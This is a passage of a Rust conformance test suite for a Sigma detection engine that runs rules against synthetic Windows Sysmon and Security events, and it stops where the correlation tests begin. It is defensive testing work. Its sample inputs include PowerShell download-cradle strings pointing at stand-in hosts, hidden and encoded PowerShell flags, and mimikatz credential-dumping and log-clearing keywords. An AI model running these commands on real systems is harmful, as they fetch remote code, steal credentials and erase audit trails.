//! Conformance of Rampart's Sigma engine to the Sigma 2 specification, on Windows records.
//!
//! Every test states a rule and records it must and must not fire on: value modifiers,
//! wildcards and escapes, conditions, correlations, filters, logsource routing and the way
//! rules that cannot load are reported.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use chrono::{DateTime, Utc};
use rampart_sigma::{
    CorrelationInput, Detection, MAX_RULE_FILE_BYTES, RuleKind, RuleSet, RuleStatus,
};
use rampart_sources::WinEvent;
use serde_json::{Map, Value, json};

// ---------------------------------------------------------------------------------------------
// Records
// ---------------------------------------------------------------------------------------------

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
const SYSMON_PROVIDER: &str = "Microsoft-Windows-Sysmon";
const SECURITY: &str = "Security";
const SECURITY_PROVIDER: &str = "Microsoft-Windows-Security-Auditing";
/// 2024-01-01T00:00:00Z; records in correlation tests are placed in seconds after it.
const T0: i64 = 1_704_067_200;

/// A record of `channel`/`event_id` at `T0 + secs`, with `data` as its EventData.
fn record(channel: &str, provider: &str, event_id: u32, secs: i64, data: Value) -> WinEvent {
    let time = DateTime::<Utc>::from_timestamp(T0 + secs, 0).unwrap();
    let json = json!({"Event": {
        "System": {
            "EventID": event_id,
            "Channel": channel,
            "Computer": "PC1",
            "Provider_attributes": {"Name": provider},
            "TimeCreated_attributes": {"SystemTime": time.to_rfc3339()},
        },
        "EventData": data,
    }});
    WinEvent::from_json(Arc::from(Path::new("t.evtx")), 1, time, json).unwrap()
}

fn data(pairs: &[(&str, &str)]) -> Value {
    Value::Object(
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), Value::String(v.to_string())))
            .collect::<Map<_, _>>(),
    )
}

/// A Sysmon process creation (event 1) with these EventData items.
fn proc(pairs: &[(&str, &str)]) -> WinEvent {
    record(SYSMON, SYSMON_PROVIDER, 1, 0, data(pairs))
}

/// A Sysmon network connection (event 3) with these EventData items.
fn net(pairs: &[(&str, &str)]) -> WinEvent {
    record(SYSMON, SYSMON_PROVIDER, 3, 0, data(pairs))
}

/// A Security record with these EventData items.
fn security(event_id: u32, pairs: &[(&str, &str)]) -> WinEvent {
    record(SECURITY, SECURITY_PROVIDER, event_id, 0, data(pairs))
}

fn cmd(line: &str) -> WinEvent {
    proc(&[
        ("Image", r"C:\Windows\System32\cmd.exe"),
        ("CommandLine", line),
    ])
}

// ---------------------------------------------------------------------------------------------
// Rules
// ---------------------------------------------------------------------------------------------

/// Removes the indentation common to all non-empty lines, then indents by `by` spaces.
fn reindent(text: &str, by: usize) -> String {
    let lines: Vec<&str> = text.lines().filter(|l| !l.trim().is_empty()).collect();
    let common = lines
        .iter()
        .map(|l| l.len() - l.trim_start().len())
        .min()
        .unwrap_or(0);
    let pad = " ".repeat(by);
    lines
        .iter()
        .map(|l| format!("{pad}{}\n", &l[common..]))
        .collect()
}

/// One rule document titled `title` with the given logsource and detection blocks.
fn rule_doc(title: &str, logsource: &str, detection: &str) -> String {
    format!(
        "title: {title}\nlogsource:\n{}detection:\n{}",
        reindent(logsource, 4),
        reindent(detection, 4)
    )
}

/// Loads YAML and checks that every document in it loaded.
fn load(yaml: &str) -> RuleSet {
    let rules = RuleSet::from_yaml(yaml, Path::new("spec.yml"));
    for line in &rules.report {
        assert_eq!(
            line.status,
            RuleStatus::Loaded,
            "{:?} did not load from:\n{yaml}",
            line.title
        );
    }
    assert!(!rules.report.is_empty(), "nothing loaded from:\n{yaml}");
    rules
}

/// Titles of the rules that fire on `event` (correlation inputs are dropped).
fn fired(rules: &RuleSet, event: &WinEvent) -> Vec<String> {
    let mut out = Vec::new();
    let _ = rules.evaluate(event, &mut out);
    out.into_iter().map(|d| d.rule.title.clone()).collect()
}

/// Loads one rule body (a detection block) on `logsource` and returns the titles that fire.
fn fired_by(logsource: &str, detection: &str, event: &WinEvent) -> Vec<String> {
    fired(&load(&rule_doc("T", logsource, detection)), event)
}

const PROC: &str = "product: windows\ncategory: process_creation";
const NET: &str = "product: windows\ncategory: network_connection";

/// Checks that the process-creation rule `detection` fires on every `yes` and on no `no`.
fn check(detection: &str, yes: &[WinEvent], no: &[WinEvent]) {
    check_on(PROC, detection, yes, no);
}

fn check_on(logsource: &str, detection: &str, yes: &[WinEvent], no: &[WinEvent]) {
    let rules = load(&rule_doc("T", logsource, detection));
    for (i, e) in yes.iter().enumerate() {
        assert_eq!(
            fired(&rules, e),
            ["T"],
            "should fire on yes[{i}] {:?}\nrule:\n{detection}",
            e.fields
        );
    }
    for (i, e) in no.iter().enumerate() {
        assert!(
            fired(&rules, e).is_empty(),
            "should not fire on no[{i}] {:?}\nrule:\n{detection}",
            e.fields
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Encodings the tests need (no extra dependencies)
// ---------------------------------------------------------------------------------------------

fn b64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn utf16le(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn utf16be(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_be_bytes).collect()
}

#[test]
fn helper_base64_is_standard() {
    assert_eq!(b64(b""), "");
    assert_eq!(b64(b"f"), "Zg==");
    assert_eq!(b64(b"fo"), "Zm8=");
    assert_eq!(b64(b"foo"), "Zm9v");
    assert_eq!(b64(b"http://"), "aHR0cDovLw==");
}

// ---------------------------------------------------------------------------------------------
// 1. Value modifiers
// ---------------------------------------------------------------------------------------------

#[test]
fn plain_value_is_exact_and_case_insensitive() {
    check(
        r"
        selection:
            Image: 'C:\Windows\System32\WHOAMI.exe'
        condition: selection
        ",
        &[
            proc(&[("Image", r"C:\Windows\System32\whoami.exe")]),
            proc(&[("Image", r"c:\windows\system32\WHOAMI.EXE")]),
        ],
        &[
            proc(&[("Image", r"C:\Windows\System32\whoami.exe.bak")]),
            proc(&[("Image", r"D:\C:\Windows\System32\whoami.exe")]),
            proc(&[("CommandLine", r"C:\Windows\System32\whoami.exe")]),
        ],
    );
}

#[test]
fn contains() {
    check(
        "
        selection:
            CommandLine|contains: 'whoami'
        condition: selection
        ",
        &[cmd("cmd /c WhoAmI /all"), cmd("whoami"), cmd("x whoami")],
        &[cmd("cmd /c hostname"), cmd("who ami")],
    );
}

#[test]
fn startswith() {
    check(
        r"
        selection:
            Image|startswith: 'C:\Users\'
        condition: selection
        ",
        &[
            proc(&[("Image", r"C:\Users\bob\evil.exe")]),
            proc(&[("Image", r"c:\users\x.exe")]),
        ],
        &[
            proc(&[("Image", r"D:\C:\Users\bob\evil.exe")]),
            proc(&[("Image", r"C:\Windows\cmd.exe")]),
        ],
    );
}

#[test]
fn endswith() {
    check(
        r"
        selection:
            Image|endswith: '\whoami.exe'
        condition: selection
        ",
        &[
            proc(&[("Image", r"C:\Windows\System32\whoami.exe")]),
            proc(&[("Image", r"C:\TEMP\WHOAMI.EXE")]),
        ],
        &[
            proc(&[("Image", r"C:\Windows\System32\whoami.exe.bak")]),
            proc(&[("Image", r"C:\Windows\System32\notwhoami.exe")]),
        ],
    );
}

#[test]
fn contains_all_requires_every_value() {
    check(
        "
        selection:
            CommandLine|contains|all:
                - '-nop'
                - '-w hidden'
        condition: selection
        ",
        &[
            cmd("powershell -nop -w hidden -c x"),
            cmd("powershell -W HIDDEN -NOP"),
        ],
        &[cmd("powershell -nop -c x"), cmd("powershell -w hidden")],
    );
}

#[test]
fn value_list_is_or_without_all() {
    check(
        "
        selection:
            CommandLine|contains:
                - '-nop'
                - '-w hidden'
        condition: selection
        ",
        &[cmd("powershell -nop"), cmd("powershell -w hidden")],
        &[cmd("powershell -c x")],
    );
}

#[test]
fn base64() {
    // base64('IEX (') = 'SUVYICg='
    assert_eq!(b64(b"IEX ("), "SUVYICg=");
    check(
        "
        selection:
            CommandLine|base64|contains: 'IEX ('
        condition: selection
        ",
        &[cmd("certutil -decode SUVYICg= out")],
        &[cmd("powershell IEX (New-Object)"), cmd("SUVYICh=")],
    );
}

/// An encoding the `utf16*`/`wide` modifiers (or none) describe.
type Encode = fn(&str) -> Vec<u8>;

fn utf8(s: &str) -> Vec<u8> {
    s.as_bytes().to_vec()
}

fn utf16_bom(s: &str) -> Vec<u8> {
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(utf16le(s));
    bytes
}

/// `(modifier chain before base64offset, the encoding it describes)`, as SigmaHQ writes them.
const ENCODINGS: &[(&str, Encode)] = &[
    ("", utf8),
    ("wide|", utf16le),
    ("utf16le|", utf16le),
    ("utf16be|", utf16be),
    ("utf16|", utf16_bom),
];

fn base64offset_rule(chain: &str, value: &str) -> String {
    format!(
        "
        selection:
            CommandLine|{chain}base64offset|contains: '{value}'
        condition: selection
        "
    )
}

/// Command lines carrying base64 of `encode(text)` behind 0..=3 leading bytes or characters,
/// which puts the value at every base64 alignment (PowerShell's `-EncodedCommand` is base64
/// of UTF-16LE text, so a value at any character lands at byte offsets 0, 2, 4, 6..).
fn encoded_at_every_alignment(encode: Encode, text: &str) -> Vec<WinEvent> {
    ["", "a", "ab", "abc"]
        .iter()
        .map(|prefix| {
            let mut bytes = prefix.as_bytes().to_vec();
            bytes.extend(encode(text));
            cmd(&format!("powershell -enc {}", b64(&bytes)))
        })
        .collect()
}

#[test]
fn base64offset_value_ending_the_payload_at_every_alignment() {
    const VALUE: &str = "IEX (New-Object";
    for (chain, encode) in ENCODINGS {
        let yes = encoded_at_every_alignment(*encode, VALUE);
        let no = [
            // Another text in the same encoding.
            cmd(&format!("x {}", b64(&encode("Write-Host (New-Thing")))),
            // The value in plain text.
            cmd(&format!("powershell {VALUE}")),
        ];
        check(&base64offset_rule(chain, VALUE), &yes, &no);
    }
}

#[test]
fn base64offset_encodings_are_distinct() {
    const VALUE: &str = "IEX (New-Object";
    for (chain, encode) in ENCODINGS {
        // The value in each other encoding whose bytes do not hold this one's (UTF-16 with a
        // BOM holds UTF-16LE), at every alignment. The pattern leaves out its last byte's
        // partial character, so UTF-16BE shifted by one byte holds UTF-16LE too.
        let mine = encode(VALUE);
        let core = &mine[..mine.len() - 1];
        let others: Vec<WinEvent> = ENCODINGS
            .iter()
            .filter(|(_, e)| !e(VALUE).windows(core.len()).any(|w| w == core))
            .flat_map(|(_, e)| encoded_at_every_alignment(*e, VALUE))
            .collect();
        check(&base64offset_rule(chain, VALUE), &[], &others);
    }
}

/// Real payloads go on after the value (`IEX (New-Object Net.WebClient).Download..`); the
/// modifiers appendix has base64offset match "the static part in the middle", so the last
/// base64 character, which also depends on the next byte, must not be part of the pattern.
#[test]
fn base64offset_value_followed_by_more_text() {
    const VALUE: &str = "IEX (New-Object";
    for (chain, encode) in ENCODINGS {
        let yes = encoded_at_every_alignment(
            *encode,
            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        );
        check(&base64offset_rule(chain, VALUE), &yes, &[]);
    }
    // SigmaHQ's `CommandLine|base64offset|contains: 'http://'`, in a longer URL.
    let yes = encoded_at_every_alignment(utf8, "http://evil.example/x");
    check(&base64offset_rule("", "http://"), &yes, &[]);
}

#[test]
fn windash_dash_variants() {
    check(
        "
        selection:
            CommandLine|windash|contains: ' -encodedcommand '
        condition: selection
        ",
        &[
            cmd("powershell -encodedcommand AAAA"),
            cmd("powershell /encodedcommand AAAA"),
            cmd("powershell \u{2013}encodedcommand AAAA"), // en dash
            cmd("powershell \u{2014}encodedcommand AAAA"), // em dash
            cmd("powershell \u{2015}encodedcommand AAAA"), // horizontal bar
        ],
        &[
            cmd("powershell +encodedcommand AAAA"),
            cmd("powershell encodedcommand AAAA"),
            cmd("powershell \\encodedcommand AAAA"),
        ],
    );
}

#[test]
fn windash_every_dash_of_the_value_varies() {
    check(
        "
        selection:
            CommandLine|contains|windash: ' -s -n '
        condition: selection
        ",
        &[
            cmd("tool -s -n x"),
            cmd("tool /s -n x"),
            cmd("tool -s /n x"),
            cmd("tool /s \u{2013}n x"),
        ],
        &[cmd("tool -s x -n"), cmd("tool s n")],
    );
}

/// The modifiers appendix: windash "creates all possible permutations of the `-`, `/`, `–`, `—`
/// and `―` characters", so a value written with `/` also matches `-`. SigmaHQ writes values
/// this way (`CommandLine|contains|windash: ' /create '`).
#[test]
fn windash_value_written_with_a_slash() {
    check(
        "
        selection:
            CommandLine|contains|windash: ' /create '
        condition: selection
        ",
        &[cmd("schtasks /create /tn x"), cmd("schtasks -create /tn x")],
        &[cmd("schtasks create")],
    );
}

#[test]
fn re_is_case_sensitive_by_default() {
    check(
        r"
        selection:
            CommandLine|re: 'whoami\s+/all'
        condition: selection
        ",
        &[cmd("cmd /c whoami   /all"), cmd("whoami /all")],
        &[cmd("cmd /c WHOAMI /all"), cmd("whoami/all")],
    );
}

#[test]
fn re_keeps_backslashes_and_wildcard_characters_as_regex() {
    // In a regex `\\` is one literal backslash and `*`/`?` are quantifiers, not Sigma wildcards.
    check(
        r"
        selection:
            Image|re: '^C:\\Windows\\Temp\\[a-z]+?\.exe$'
        condition: selection
        ",
        &[proc(&[("Image", r"C:\Windows\Temp\abc.exe")])],
        &[
            proc(&[("Image", r"C:\Windows\Temp\ABC.exe")]),
            proc(&[("Image", r"C:\Windows\Temp\a1.exe")]),
            proc(&[("Image", r"C:WindowsTempabc.exe")]),
        ],
    );
}

#[test]
fn re_i_m_s_sub_modifiers() {
    check(
        "
        selection:
            CommandLine|re|i: 'whoami /ALL'
        condition: selection
        ",
        &[cmd("WHOAMI /all"), cmd("whoami /all")],
        &[cmd("whoami /groups")],
    );
    // `m`: ^ and $ match at line breaks.
    check(
        "
        selection:
            CommandLine|re|m: '^second$'
        condition: selection
        ",
        &[cmd("first\nsecond\nthird")],
        &[cmd("first second third")],
    );
    check(
        "
        selection:
            CommandLine|re: '^second$'
        condition: selection
        ",
        &[cmd("second")],
        &[cmd("first\nsecond\nthird")],
    );
    // `s`: the dot matches a line break.
    check(
        "
        selection:
            CommandLine|re|s: 'first.second'
        condition: selection
        ",
        &[cmd("first\nsecond"), cmd("first second")],
        &[cmd("first\n\nsecond")],
    );
    check(
        "
        selection:
            CommandLine|re: 'first.second'
        condition: selection
        ",
        &[cmd("first second")],
        &[cmd("first\nsecond")],
    );
}

#[test]
fn cidr_ipv4_and_ipv6() {
    check_on(
        NET,
        "
        selection:
            DestinationIp|cidr:
                - '10.0.0.0/8'
                - '192.168.1.0/24'
                - 'fe80::/10'
        condition: selection
        ",
        &[
            net(&[("DestinationIp", "10.1.2.3")]),
            net(&[("DestinationIp", "192.168.1.200")]),
            net(&[("DestinationIp", "fe80::1")]),
            net(&[("DestinationIp", "FEBF::abcd")]),
        ],
        &[
            net(&[("DestinationIp", "11.0.0.1")]),
            net(&[("DestinationIp", "192.168.2.1")]),
            net(&[("DestinationIp", "2001:db8::1")]),
            net(&[("DestinationIp", "fec0::1")]),
            net(&[("DestinationIp", "not an address")]),
            net(&[("SourceIp", "10.1.2.3")]),
        ],
    );
}

#[test]
fn exists_true_and_false() {
    check(
        "
        selection:
            ParentImage|exists: true
        condition: selection
        ",
        &[
            proc(&[("ParentImage", r"C:\Windows\explorer.exe")]),
            proc(&[("ParentImage", "x"), ("Image", "y")]),
        ],
        &[proc(&[("Image", r"C:\Windows\cmd.exe")])],
    );
    check(
        "
        selection:
            Image|endswith: '\\cmd.exe'
            ParentImage|exists: false
        condition: selection
        ",
        &[proc(&[("Image", r"C:\Windows\cmd.exe")])],
        &[proc(&[
            ("Image", r"C:\Windows\cmd.exe"),
            ("ParentImage", r"C:\Windows\explorer.exe"),
        ])],
    );
}

#[test]
fn numeric_comparisons() {
    // Sysmon renders DestinationPort as a number; other providers as text.
    let port = |p: Value| record(SYSMON, SYSMON_PROVIDER, 3, 0, json!({"DestinationPort": p}));
    for (modifier, yes, no) in [
        (
            "lt",
            vec![json!(444), json!("80")],
            vec![json!(445), json!(446)],
        ),
        (
            "lte",
            vec![json!(445), json!("444")],
            vec![json!(446), json!("9999")],
        ),
        (
            "gt",
            vec![json!(446), json!("50000")],
            vec![json!(445), json!("22")],
        ),
        (
            "gte",
            vec![json!(445), json!("446")],
            vec![json!(444), json!("1")],
        ),
    ] {
        let detection = format!(
            "
            selection:
                DestinationPort|{modifier}: 445
            condition: selection
            "
        );
        let yes: Vec<WinEvent> = yes.into_iter().map(port).collect();
        let mut no: Vec<WinEvent> = no.into_iter().map(port).collect();
        no.push(port(json!("abc")));
        no.push(net(&[("DestinationIp", "1.2.3.4")]));
        check_on(NET, &detection, &yes, &no);
    }
}

#[test]
fn integer_value_matches_number_and_text() {
    check_on(
        NET,
        "
        selection:
            DestinationPort: 445
        condition: selection
        ",
        &[
            record(
                SYSMON,
                SYSMON_PROVIDER,
                3,
                0,
                json!({"DestinationPort": 445}),
            ),
            net(&[("DestinationPort", "445")]),
        ],
        &[
            record(
                SYSMON,
                SYSMON_PROVIDER,
                3,
                0,
                json!({"DestinationPort": 4450}),
            ),
            net(&[("DestinationPort", "44")]),
        ],
    );
}

#[test]
fn fieldref_compares_two_fields() {
    check(
        "
        selection:
            Image|fieldref: ParentImage
        condition: selection
        ",
        &[
            proc(&[("Image", r"C:\a.exe"), ("ParentImage", r"C:\a.exe")]),
            proc(&[("Image", r"C:\A.EXE"), ("ParentImage", r"c:\a.exe")]),
        ],
        &[
            proc(&[("Image", r"C:\a.exe"), ("ParentImage", r"C:\b.exe")]),
            proc(&[("Image", r"C:\a.exe")]),
        ],
    );
    check(
        "
        selection:
            CommandLine|fieldref|endswith: Image
        condition: selection
        ",
        &[proc(&[
            ("Image", "evil.exe"),
            ("CommandLine", r"C:\x\evil.exe"),
        ])],
        &[proc(&[
            ("Image", "evil.exe"),
            ("CommandLine", "evil.exe -x"),
        ])],
    );
}

#[test]
fn cased_is_case_sensitive() {
    check(
        "
        selection:
            CommandLine|cased: 'Whoami'
        condition: selection
        ",
        &[cmd("Whoami")],
        &[cmd("whoami"), cmd("WHOAMI"), cmd("Whoami /all")],
    );
    check(
        "
        selection:
            CommandLine|contains|cased: 'FromBase64String'
        condition: selection
        ",
        &[cmd("[Convert]::FromBase64String($x)")],
        &[cmd("[convert]::frombase64string($x)")],
    );
}

// ---------------------------------------------------------------------------------------------
// 2. Values: wildcards, escapes, null, lists, maps, keywords
// ---------------------------------------------------------------------------------------------

#[test]
fn wildcard_star_and_question_mark() {
    check(
        r"
        selection:
            Image: '*\cmd.exe'
        condition: selection
        ",
        &[
            proc(&[("Image", r"C:\Windows\System32\cmd.exe")]),
            proc(&[("Image", r"\CMD.EXE")]),
        ],
        &[
            proc(&[("Image", r"C:\Windows\System32\cmd.exe.bak")]),
            proc(&[("Image", "cmd.exe")]),
        ],
    );
    check(
        r"
        selection:
            Image: 'C:\Windows\System32\\???.exe'
        condition: selection
        ",
        &[
            proc(&[("Image", r"C:\Windows\System32\cmd.exe")]),
            proc(&[("Image", r"C:\Windows\System32\SC_.exe")]),
        ],
        &[
            proc(&[("Image", r"C:\Windows\System32\calc.exe")]),
            proc(&[("Image", r"C:\Windows\System32\at.exe")]),
        ],
    );
    // A wildcard inside a value under a modifier.
    check(
        "
        selection:
            CommandLine|contains: ' -e* JAB'
        condition: selection
        ",
        &[cmd("powershell -enc JABzAD0"), cmd("powershell -e JABz")],
        &[cmd("powershell -enc SQBFAFgA"), cmd("powershell-e JAB")],
    );
}

#[test]
fn escaped_wildcards_are_literal() {
    check(
        r"
        selection:
            CommandLine: 'echo \*'
        condition: selection
        ",
        &[cmd("echo *")],
        &[cmd("echo hello"), cmd("echo ")],
    );
    check(
        r"
        selection:
            CommandLine|endswith: 'what\?'
        condition: selection
        ",
        &[cmd("say what?")],
        &[cmd("say whatX"), cmd("say what")],
    );
    // A backslash before a wildcard is an escape, not a path separator: `\?` is a plain `?`.
    check(
        r"
        selection:
            Image: 'C:\Temp\?.exe'
        condition: selection
        ",
        &[proc(&[("Image", r"C:\Temp?.exe")])],
        &[proc(&[("Image", r"C:\Temp\a.exe")])],
    );
}

#[test]
fn escaped_backslashes() {
    // `\\` is one backslash; a single backslash before a plain character is kept as is.
    check(
        r"
        selection:
            Image: 'C:\\Windows\\System32\\cmd.exe'
        condition: selection
        ",
        &[proc(&[("Image", r"C:\Windows\System32\cmd.exe")])],
        &[proc(&[("Image", r"C:\\Windows\\System32\\cmd.exe")])],
    );
    // `\\\\` is two backslashes (a UNC path).
    check(
        r"
        selection:
            CommandLine|startswith: '\\\\server\share'
        condition: selection
        ",
        &[cmd(r"\\server\share\x.exe")],
        &[cmd(r"\server\share\x.exe")],
    );
    // `\\*`: a backslash followed by a wildcard.
    check(
        r"
        selection:
            Image: 'C:\Temp\\*'
        condition: selection
        ",
        &[
            proc(&[("Image", r"C:\Temp\a.exe")]),
            proc(&[("Image", r"C:\Temp\")]),
        ],
        &[
            proc(&[("Image", r"C:\Temp")]),
            proc(&[("Image", r"C:\Tempo\a")]),
        ],
    );
    // `\\\*`: a backslash followed by a literal star.
    check(
        r"
        selection:
            Image: 'C:\Temp\\\*'
        condition: selection
        ",
        &[proc(&[("Image", r"C:\Temp\*")])],
        &[proc(&[("Image", r"C:\Temp\a.exe")])],
    );
}

#[test]
fn null_matches_an_absent_field() {
    check(
        r"
        selection:
            Image|endswith: '\cmd.exe'
        filter:
            ParentImage: null
        condition: selection and not filter
        ",
        &[proc(&[
            ("Image", r"C:\Windows\cmd.exe"),
            ("ParentImage", r"C:\Windows\explorer.exe"),
        ])],
        &[proc(&[("Image", r"C:\Windows\cmd.exe")])],
    );
    check(
        "
        selection:
            OriginalFileName: null
        condition: selection
        ",
        &[proc(&[("Image", "x")])],
        &[proc(&[("OriginalFileName", "cmd.exe")])],
    );
}

#[test]
fn empty_value_matches_an_empty_field() {
    // `<Data Name="OriginalFileName" />` renders as JSON null in evtx's output.
    let empty_element = record(
        SYSMON,
        SYSMON_PROVIDER,
        1,
        0,
        json!({"Image": "x", "OriginalFileName": null}),
    );
    check(
        "
        selection:
            OriginalFileName: ''
        condition: selection
        ",
        &[proc(&[("OriginalFileName", "")]), empty_element],
        &[proc(&[("OriginalFileName", "cmd.exe")])],
    );
}

/// The rules specification leaves null against empty to the backend ("The application of
/// these values depends on the target SIEM system"). Rampart reads them as pySigma and SigmaHQ's
/// rules do: `null` is an absent field, `''` an empty one (`<Data Name="X" />`), and a SigmaHQ
/// rule that means "no value" lists both (`filter_main_null` beside `filter_main_empty`).
#[test]
fn null_and_empty_are_distinct_and_sigmahq_lists_both() {
    let empty_element = record(
        SYSMON,
        SYSMON_PROVIDER,
        1,
        0,
        json!({"Image": r"C:\Windows\System32\rundll32.exe", "CommandLine": null}),
    );
    let absent = proc(&[("Image", r"C:\Windows\System32\rundll32.exe")]);
    let with_value = proc(&[
        ("Image", r"C:\Windows\System32\rundll32.exe"),
        ("CommandLine", "rundll32.exe evil.dat,Start"),
    ]);
    check(
        "
        selection:
            CommandLine: null
        condition: selection
        ",
        std::slice::from_ref(&absent),
        &[empty_element.clone(), with_value.clone()],
    );
    // As proc_creation_win_rundll32_uncommon_dll_extension.yml writes it.
    check(
        r"
        selection:
            Image|endswith: '\rundll32.exe'
        filter_main_null:
            CommandLine: null
        filter_main_empty:
            CommandLine: ''
        condition: selection and not 1 of filter_main_*
        ",
        &[with_value],
        &[absent, empty_element],
    );
}

#[test]
fn map_is_and_of_fields() {
    check(
        r"
        selection:
            Image|endswith: '\net.exe'
            CommandLine|contains: ' user '
        condition: selection
        ",
        &[proc(&[
            ("Image", r"C:\Windows\System32\net.exe"),
            ("CommandLine", "net user bob /add"),
        ])],
        &[
            proc(&[
                ("Image", r"C:\Windows\System32\net.exe"),
                ("CommandLine", "net group x"),
            ]),
            proc(&[
                ("Image", r"C:\Windows\System32\cmd.exe"),
                ("CommandLine", "net user bob /add"),
            ]),
        ],
    );
}

#[test]
fn list_of_maps_is_or() {
    check(
        r"
        selection:
            - Image|endswith: '\example.exe'
            - Description|contains: 'Test executable'
              Company: 'Evil Corp'
        condition: selection
        ",
        &[
            proc(&[("Image", r"C:\example.exe")]),
            proc(&[
                ("Description", "A test executable"),
                ("Company", "Evil Corp"),
            ]),
        ],
        &[
            proc(&[("Description", "A test executable"), ("Company", "Good")]),
            proc(&[("Image", r"C:\other.exe"), ("Company", "Evil Corp")]),
        ],
    );
}

#[test]
fn keywords_match_any_field_value() {
    check(
        "
        keywords:
            - 'event::clear'
            - 'sekurlsa::*'
        condition: keywords
        ",
        &[
            cmd("mimikatz EVENT::CLEAR"),
            proc(&[("ParentCommandLine", "mimikatz sekurlsa::logonpasswords")]),
            proc(&[("Description", "event::clear")]),
        ],
        &[
            cmd("mimikatz event::drop"),
            // Field names are not searched.
            proc(&[("event::clear", "x")]),
        ],
    );
}

/// The rules specification: `'|all':` over a keyword list gives "OabVirtualDirectory" **and**
/// " -ExternalUrl " (SigmaHQ's Exchange rules, `service: msexchange-management`, use it).
#[test]
fn keywords_with_all_need_every_value() {
    check(
        "
        keywords:
            '|all':
                - 'OabVirtualDirectory'
                - ' -ExternalUrl '
        condition: keywords
        ",
        &[
            cmd("Set-OabVirtualDirectory -ExternalUrl http://x"),
            proc(&[
                ("CommandLine", "Set-OabVirtualDirectory"),
                ("ParentCommandLine", "x -externalurl y"),
            ]),
        ],
        &[
            cmd("Set-OabVirtualDirectory -InternalUrl http://x"),
            cmd("Get-Thing -ExternalUrl http://x"),
        ],
    );
}

// ---------------------------------------------------------------------------------------------
// 3. Conditions
// ---------------------------------------------------------------------------------------------

/// Detections with three independent selections on CommandLine words.
const ABC: &str = "
    sel_a:
        CommandLine|contains: 'alpha'
    sel_b:
        CommandLine|contains: 'bravo'
    sel_c:
        CommandLine|contains: 'charlie'
";

fn check_condition(condition: &str, yes: &[&str], no: &[&str]) {
    let detection = format!("{}\ncondition: {condition}\n", reindent(ABC, 0));
    let yes: Vec<WinEvent> = yes.iter().map(|c| cmd(c)).collect();
    let no: Vec<WinEvent> = no.iter().map(|c| cmd(c)).collect();
    check(&detection, &yes, &no);
}

#[test]
fn condition_and_or_not() {
    check_condition("sel_a and sel_b", &["alpha bravo"], &["alpha", "bravo"]);
    check_condition("sel_a or sel_b", &["alpha", "bravo"], &["charlie"]);
    check_condition("sel_a and not sel_b", &["alpha"], &["alpha bravo", "x"]);
    check_condition("not sel_a", &["bravo", "x"], &["alpha"]);
}

#[test]
fn condition_precedence_and_parentheses() {
    // and binds tighter than or.
    check_condition(
        "sel_a or sel_b and sel_c",
        &["alpha", "bravo charlie"],
        &["bravo", "charlie"],
    );
    check_condition(
        "(sel_a or sel_b) and sel_c",
        &["alpha charlie", "bravo charlie"],
        &["alpha", "bravo"],
    );
    // not binds tighter than and.
    check_condition(
        "not sel_a and sel_b",
        &["bravo"],
        &["alpha bravo", "charlie"],
    );
    check_condition(
        "not (sel_a and sel_b)",
        &["alpha", "bravo", "x"],
        &["alpha bravo"],
    );
}

#[test]
fn condition_one_and_all_of_a_pattern() {
    let detection = "
        selection_img:
            Image|endswith: '\\rundll32.exe'
        selection_cli:
            CommandLine|contains: 'javascript:'
        filter_a:
            ParentImage|endswith: '\\explorer.exe'
        filter_b:
            User|contains: 'adm_'
        ";
    let ev = |image: &str, cli: &str, parent: &str, user: &str| {
        proc(&[
            ("Image", image),
            ("CommandLine", cli),
            ("ParentImage", parent),
            ("User", user),
        ])
    };
    let rundll = r"C:\Windows\System32\rundll32.exe";
    let full = |c: &str| format!("{}condition: {c}\n", reindent(detection, 0));
    check(
        &full("1 of selection*"),
        &[
            ev(rundll, "x", "p", "u"),
            ev("cmd.exe", "javascript:x", "p", "u"),
        ],
        &[ev("cmd.exe", "x", r"C:\explorer.exe", "adm_x")],
    );
    check(
        &full("all of selection*"),
        &[ev(rundll, "javascript:x", "p", "u")],
        &[
            ev(rundll, "x", "p", "u"),
            ev("cmd.exe", "javascript:x", "p", "u"),
        ],
    );
    check(
        &full("all of selection* and not 1 of filter*"),
        &[ev(rundll, "javascript:x", "p", "u")],
        &[
            ev(rundll, "javascript:x", r"C:\Windows\explorer.exe", "u"),
            ev(rundll, "javascript:x", "p", r"CORP\adm_bob"),
        ],
    );
}

#[test]
fn condition_one_and_all_of_them() {
    check_condition("1 of them", &["alpha", "charlie"], &["delta"]);
    check_condition(
        "all of them",
        &["alpha bravo charlie"],
        &["alpha bravo", "bravo charlie"],
    );
}

#[test]
fn them_ignores_identifiers_starting_with_an_underscore() {
    check(
        "
        sel_a:
            CommandLine|contains: 'alpha'
        _helper:
            CommandLine|contains: 'never'
        condition: all of them
        ",
        &[cmd("alpha")],
        &[cmd("bravo")],
    );
    check(
        "
        sel_a:
            CommandLine|contains: 'alpha'
        _helper:
            CommandLine|contains: 'bravo'
        condition: 1 of them
        ",
        &[cmd("alpha")],
        &[cmd("bravo")],
    );
}

#[test]
fn condition_list_is_or() {
    let detection = format!(
        "{}condition:\n    - sel_a and sel_b\n    - sel_c\n",
        reindent(ABC, 0)
    );
    check(
        &detection,
        &[cmd("alpha bravo"), cmd("charlie")],
        &[cmd("alpha"), cmd("bravo")],
    );
}

// ---------------------------------------------------------------------------------------------
// 4. Correlations
// ---------------------------------------------------------------------------------------------

/// Evaluates records, then feeds the held-back ones to a correlator in time order, as triage
/// does. Returns the direct detections and those out of the correlator.
